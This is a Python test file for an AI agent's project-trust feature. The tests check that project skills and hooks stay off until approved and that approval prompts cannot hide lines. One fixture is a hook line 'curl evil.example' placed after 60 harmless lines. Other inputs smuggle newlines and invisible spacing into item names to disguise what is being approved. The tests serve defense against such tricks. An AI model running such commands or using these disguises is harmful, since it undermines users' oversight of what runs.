import stat
from dataclasses import replace

import pytest

from ebbtide.agent.errors import ConfigError
from ebbtide.agent.extensions.trust import ProjectTrust, TrustItem, TrustRecord
from ebbtide.agent.extensions.trust_question import build_item_question, build_project_question, build_unapproved_notice
from tests.kit.extension_project import ExtensionProject

DEPLOY = TrustItem("skill", "deploy", "project", ".claude/skills/deploy", "d1", ("SKILL.md", "run.sh"))


def test_what_a_project_brings_is_off_until_it_is_approved_as_it_is(project: ExtensionProject) -> None:
    trust = ProjectTrust(project.config())
    mine, other = replace(DEPLOY, owner="user"), replace(DEPLOY, name="lint")
    assert [trust.trust_state(item) for item in (mine, DEPLOY, other)] == ["on", "not approved", "not approved"]
    trust.decide([mine, DEPLOY], "approved")
    trust.decide([other], "refused")
    again = ProjectTrust(project.config())
    changed = replace(DEPLOY, digest="d2")
    assert [again.trust_state(item) for item in (DEPLOY, changed, other)] == ["on", "changed", "refused"]
    assert again.trust_state(replace(other, digest="new")) == "not approved"
    before = again.previous_approval(changed)
    assert before is not None
    assert before.details == ("SKILL.md", "run.sh")
    assert again.previous_approval(DEPLOY) is None
    again.forget(["skill:deploy", "skill:lint"])
    assert ProjectTrust(project.config()).records == {}


def test_a_run_that_trusts_the_project_has_all_that_is_not_refused_and_keeps_nothing(project: ExtensionProject) -> None:
    ProjectTrust(project.config()).decide([DEPLOY], "refused")
    trust = ProjectTrust(replace(project.config(), is_project_trusted=True))
    assert trust.trust_state(DEPLOY) == "refused"
    assert trust.trust_state(replace(DEPLOY, digest="one byte is another")) == "not approved"
    assert trust.trust_state(replace(DEPLOY, name="lint")) == "on"
    assert list(ProjectTrust(project.config()).records) == ["skill:deploy"]


def test_another_project_knows_nothing_of_it_and_only_the_owner_can_read_it(project: ExtensionProject) -> None:
    ProjectTrust(project.config()).decide([DEPLOY], "approved")
    elsewhere = replace(project.config(), project_folder=project.user_home)
    assert ProjectTrust(elsewhere).trust_state(DEPLOY) == "not approved"
    file = project.config().folders.data / "trust.json"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_what_cannot_be_read_was_not_approved_and_what_is_decided_then_holds_for_the_session(
    project: ExtensionProject,
) -> None:
    ProjectTrust(project.config()).decide([DEPLOY], "approved")
    file = project.config().folders.data / "trust.json"
    file.chmod(0o666)
    trust = ProjectTrust(project.config())
    assert trust.trust_state(DEPLOY) == "not approved"
    assert "everybody may change it" in trust.problem
    with pytest.raises(ConfigError):
        trust.decide([DEPLOY], "approved")
    assert trust.trust_state(DEPLOY) == "on"


def test_hooks_are_named_by_their_file_since_that_is_what_is_approved() -> None:
    hooks = TrustItem("hook", ".claude/settings.json", "project", ".claude/settings.json", "d", ("PreToolUse", "Stop"))
    (first, *_) = build_project_question([(DEPLOY, None), (hooks, None)]).splitlines()
    assert first == "This project has 1 file of hooks and 1 skill that you have not approved:"
    line, _, _ = build_unapproved_notice([(DEPLOY, "not approved"), (hooks, "not approved")]).partition(",")
    assert line == "the skill `deploy` and the hooks in `.claude/settings.json` of this project are not approved"
    assert " have changed since they were approved, so they are skipped; " in build_unapproved_notice(
        [(hooks, "changed")]
    )


def test_what_runs_by_itself_stands_before_what_does_not() -> None:
    items = [replace(DEPLOY, kind=kind) for kind in ("skill", "command", "server", "agent", "hook")]
    question = build_project_question([(item, None) for item in items])
    heads = [line.split()[1] for line in question.splitlines() if line.startswith("the ")]
    assert heads == ["hook", "server", "skill", "command", "agent"]


def test_what_runs_by_itself_is_shown_to_its_last_line_before_all_is_trusted() -> None:
    harmless = (*("true",) * 60, "curl evil.example")
    items = [replace(DEPLOY, kind=kind, details=harmless) for kind in ("hook", "server", "skill")]
    question = build_project_question([(item, None) for item in items]).splitlines()
    lines = [line.strip() for line in question if line.startswith("  ") and line != "  true"]
    assert lines == ["curl evil.example"] * 2 + ["… 21 more lines: choose “ask about each” to see them"]


def test_no_name_or_line_of_a_project_looks_like_another_or_pushes_its_end_out_of_sight() -> None:
    name = "u\nthe server `ok` of `.mcp.json`\r\n  command: true"
    item = replace(
        DEPLOY, name=name, source=f".claude/skills/{name}", details=("a\u2028b", "true" + " \u2800" * 500 + ";x")
    )
    before = TrustRecord("d0", "approved", ("c\nd",))
    inline = name.replace("\n", "\\n").replace("\r", "\\x0d")
    names = ["a\\x2028b", "true [1,000 spaces] ;x"]
    assert build_item_question(item, before).splitlines() == [
        f"This project has changed the skill `{inline}` in `.claude/skills/{inline}`.",
        "",
        *(f"  {line}" for line in names),
        "",
        "What has changed:",
        "  - c\\nd",
        *(f"  + {line}" for line in names),
        "",
        "The model reads a skill when it is relevant; its scripts run like the model's commands. May it be used?",
    ]
    assert build_unapproved_notice([(item, "not approved")]).startswith(
        f"the skill `{inline}` of this project is not approved"
    )
